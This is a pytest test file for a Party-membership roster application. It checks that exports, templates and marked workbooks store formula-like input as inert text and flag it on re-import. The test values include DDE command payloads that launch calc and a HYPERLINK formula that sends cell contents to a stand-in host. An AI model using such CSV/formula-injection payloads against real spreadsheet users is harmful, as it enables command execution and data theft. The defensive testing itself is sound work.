"""No file that goes out holds a formula, whatever people typed: the marked workbook, templates, exports, lists."""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import UTC, datetime
from io import BytesIO
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from dangvien.actions import jobs
from dangvien.actions.declaring import declare_figure
from dangvien.actions.exporting import ask_to_export
from dangvien.imports.export import path_of
from dangvien.imports.marking import marked_file
from dangvien.imports.resources import RESOURCES
from dangvien.imports.templates import KINDS, template_for
from dangvien.models import Indicator, Organization, Placement, RosterKind, User
from dangvien.procedure.declared import FigureFacts, Purpose
from dangvien.procedure.problem import Refused
from dangvien.spreadsheet import Mark, workbook
from tests import factories
from tests.people import TODAY, World
from tests.roster_files import book, commit, keep, member

EVIL = '=HYPERLINK("http://127.0.0.1/?"&A1,"Nguyễn")'
CALLS = ("=1+1", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(A1)", EVIL)
NOW = datetime(2024, 6, 3, 12, 0, tzinfo=UTC)
FORMULA = re.compile(rb"<f[ >]")


def cells(content: bytes) -> Iterator[tuple[str, str, str]]:
    """(place, value, type) of every text in a workbook. Fails where a sheet holds a formula or a link outside."""
    with ZipFile(BytesIO(content)) as packed:
        for name in packed.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert not FORMULA.search(packed.read(name)), name
            assert "externalLink" not in name
    for sheet in load_workbook(BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                assert cell.hyperlink is None
                if isinstance(cell.value, str):
                    yield f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type


@pytest.fixture
def evil(world: World) -> World:
    """A cell of the Party, and a member of it, whose names a spreadsheet would run."""
    Placement.objects.filter(organization=world.a1).update(name=EVIL)
    person = factories.member(world.a1, "Lê An").person
    type(person).objects.filter(pk=person.pk).update(full_name=EVIL, native_place=CALLS[1], residence=CALLS[2])
    candidate = factories.candidate(world.a1, "Lê Bình").person
    type(person).objects.filter(pk=candidate.pk).update(full_name=CALLS[3])
    return world


@pytest.fixture(autouse=True)
def files(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def test_the_marked_workbook(world: World, an: User) -> None:
    rows = [member(n, ho_ten=text, que_quan=text, ghi_chu=text) for n, text in enumerate(CALLS)]
    batch = keep(an, world.ward_a, (), content=as_text(rows))

    assert {text for _, text, _ in cells(marked_file(batch).content)} >= set(CALLS)


def test_the_plain_copy_of_a_text_file(world: World, an: User) -> None:
    rows = [member(n, ho_ten=text, que_quan=text) for n, text in enumerate(("=1+1", "@SUM(A1)"))]
    lines = [
        "Họ và tên;Ngày sinh;Quê quán",
        *(f"{r['ho_ten']};31/02/1980;{r['que_quan']}" for r in rows),
    ]
    batch = keep(an, world.ward_a, (), content="\n".join(lines).encode())

    assert {text for _, text, _ in cells(marked_file(batch).content)} >= {"=1+1", "@SUM(A1)"}


def as_text(rows: list[dict[str, str]]) -> bytes:
    """A workbook in which such words stand as text, as Excel keeps them behind an apostrophe."""
    opened = load_workbook(BytesIO(book(rows)))
    for row in opened.worksheets[0].iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"
    out = BytesIO()
    opened.save(out)
    return out.getvalue()


@pytest.mark.parametrize("kind", [kind for kind, _ in KINDS])
def test_templates(evil: World, kind: str) -> None:
    content, _ = template_for(evil.scope(evil.city), evil.ward_a, kind)

    assert EVIL in {text for _, text, _ in cells(content)}


@pytest.mark.parametrize("kind", sorted(RESOURCES))
def test_exports(evil: World, dung: User, chi: User, kind: str) -> None:
    course = factories.training_class(evil.ward_a, "NT-01")
    factories.enrollment(course, factories.candidate(evil.a1, "Lê Cúc"))
    for purpose in Purpose:
        facts = FigureFacts(evil.a1, purpose, Indicator.ADMITTED, 2024, 2024, 3, CALLS[0] + " của Đảng ủy")
        declare_figure(by=chi, facts=facts, today=TODAY)
    job = ask_to_export(
        by=dung, kind=RosterKind(kind), organization=evil.city, name=EVIL, rows=1, reason="=1+1 để đối chiếu",
        training_class=course if kind == RosterKind.CLASS else None,
    )  # fmt: skip
    jobs.run(str(job.pk))

    told = {text for _, text, _ in cells(path_of(job).read_bytes())}
    assert EVIL in told


def test_lists() -> None:
    content = workbook(EVIL, [EVIL, *CALLS], [[EVIL, *CALLS]], EVIL, Mark(EVIL, NOW, EVIL))

    assert {text for _, text, _ in cells(content)} >= {EVIL, *CALLS}


def test_a_name_that_begins_with_an_equals_sign_goes_out_as_text_and_is_asked_about_when_it_comes_back(
    evil: World, an: User
) -> None:
    """A human being has no such name; a cell of the Party called so is found again."""
    job = ask_to_export(
        by=an, kind=RosterKind.MEMBERS, organization=evil.ward_a, name="Đảng bộ", rows=1, reason="Chuyển máy chủ"
    )
    jobs.run(str(job.pk))
    content = path_of(job).read_bytes()

    batch = keep(an, evil.ward_a, (), content=content, as_of=TODAY)

    (row,) = batch.rows.data()
    codes = {(issue["field"], issue["code"]) for issue in row.issues}
    assert (row.verdict, ("ho_ten", "formula_text") in codes) == ("sai", True)
    assert EVIL in row.cells
    with pytest.raises(Refused):
        commit(an, batch)


def test_an_organization_that_begins_so_comes_back_the_same(evil: World, dung: User) -> None:
    job = ask_to_export(
        by=dung, kind=RosterKind.ORGANIZATIONS, organization=evil.ward_a, name="x", rows=1, reason="Chuyển máy chủ"
    )
    jobs.run(str(job.pk))

    batch = keep(dung, evil.city, (), kind="to_chuc", content=path_of(job).read_bytes(), as_of=TODAY)

    row = batch.rows.get(record__ma=Organization.objects.get(pk=evil.a1.pk).code)
    assert (row.verdict, (row.record or {})["ten_to_chuc"]) == ("nhu_cu", EVIL)
